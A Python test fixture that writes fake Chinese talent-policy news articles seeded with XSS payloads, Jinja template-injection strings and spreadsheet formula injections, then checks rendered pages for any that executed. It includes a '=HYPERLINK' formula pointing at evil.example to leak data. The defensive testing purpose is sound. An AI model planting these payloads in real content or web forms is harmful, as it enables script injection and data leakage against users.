"""Hostile articles as the open web could serve them, and a strict check that none of it runs in a page.

Each article is a plausible Chinese talent-policy news item (a place, a policy 《…》, money for named
target groups, a metric), so the real pipeline extracts incentives, policies and metrics whose quotes
carry the payloads: what reaches the pages is then what an attacker's article would really put there.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

from markupsafe import escape

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
JS_LINK = '<a href="javascript:alert(1)">点击</a>'
TEMPLATE = "{{ 7*7 }}"
RAW = "{% raw %}x{% endraw %}"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","点击领取")'

# file name -> (place it is about, text). Titles stay under 60 characters so they are read as titles.
ARTICLES: dict[str, tuple[str, str]] = {
    "hostile_script.txt": (
        "克拉玛依市",
        f"""克拉玛依{SCRIPT}人才新政

2025-07-11 10:43:53    来源: 光明日报{SCRIPT}

  新疆克拉玛依市出台《克拉玛依市{SCRIPT}人才引进办法{TEMPLATE}》,对新引进的全日制博士研究生给予30万元安家费{SCRIPT},硕士研究生给予10万元购房补贴{IMG}。

  对引进的本科毕业生每月发放2000元生活补贴{TEMPLATE}{RAW},详见{JS_LINK}。

  截至目前,克拉玛依市已累计引进各类人才1500余人{SCRIPT}。
""",
    ),
    "hostile_img.txt": (
        "阿克苏市",
        f"""阿克苏{IMG}引才政策

2025-06-02 09:00:00    来源: 阿克苏日报

  阿克苏市印发《阿克苏市{IMG}高层次人才引进实施办法》,对引进的博士研究生给予20万元安家补贴{IMG},详情见{JS_LINK}。

  对新引进的硕士研究生每月发放3000元生活补贴{SCRIPT}。

  目前阿克苏市已集聚各类人才2000余人{IMG}。
""",
    ),
    "hostile_template.txt": (
        "哈密市",
        f"""哈密{TEMPLATE}{RAW}人才政策

2025-05-20 08:30:00    来源: 哈密{TEMPLATE}日报

  哈密市出台《哈密市{TEMPLATE}{RAW}人才支持政策》,对引进的全日制博士研究生给予25万元购房补贴{TEMPLATE}。

{HYPERLINK}对引进的硕士研究生给予8万元安家费。

  截至目前,哈密市已引进各类人才900余人{TEMPLATE}。
""",
    ),
    "hostile_formula.txt": (
        "吐鲁番市",
        f"""{HYPERLINK}吐鲁番

2025-04-18 10:00:00    来源: @SUM(1+1)

@SUM(1+1)吐鲁番市对引进的全日制博士研究生给予15万元安家费。

+SUM(1,2)吐鲁番市对引进的硕士研究生每月发放2500元生活补贴。

-2+3吐鲁番市对引进的本科毕业生给予2万元一次性奖励。
""",
    ),
}

PAYLOADS = (SCRIPT, IMG, JS_LINK, TEMPLATE, RAW)
# How each payload looks once Jinja's autoescape (markupsafe) has escaped it: the proof that it reached
# the page as text. Braces need no escaping; what matters there is that {{ 7*7 }} was not evaluated.
ESCAPED = {p: str(escape(p)) for p in PAYLOADS}


LINK_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href")
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:text")


def write_articles(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, (_, text) in ARTICLES.items():
        path = folder / name
        path.write_text(text, encoding="utf-8")
        paths.append(path)
    return paths


class _Checker(HTMLParser):
    """Flags every element or attribute through which article text could execute.

    The app's own pages have no inline script, no on* handler and only same-site links, so anything of
    the kind in a parsed page came from data that escaped the template's autoescape.
    """

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        problems = self.problems
        names = dict(attrs)
        if tag == "script" and not (names.get("src") or "").startswith("/static/"):
            problems.append(f"<script> without a /static/ src: {attrs}")
        if tag in ("img", "iframe", "object", "embed", "svg") and names.get("src") == "x":
            problems.append(f"injected <{tag}>: {attrs}")
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"event handler {name}= on <{tag}>")
            followed = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()  # browsers skip these
            if name in LINK_ATTRIBUTES and followed.startswith(SCRIPT_SCHEMES):
                problems.append(f"{name}={value!r} on <{tag}>")


def unsafe_markup(page: str) -> list[str]:
    """Everything in `page` that would run script or follow a script link; [] for a safe page."""
    checker = _Checker()
    checker.feed(page)
    checker.close()
    problems = list(checker.problems)
    # Belt and braces, independent of the parser: raw payloads must never appear verbatim.
    for raw in ("<script>alert", "<img src=x onerror", '<a href="javascript:'):
        if raw in page:
            problems.append(f"raw {raw!r} in the page")
    if re.search(r"哈密49|人才引进办法49|生活补贴49|补贴49|日报49", page):
        problems.append("template syntax from an article was evaluated ({{ 7*7 }} became 49)")
    return problems
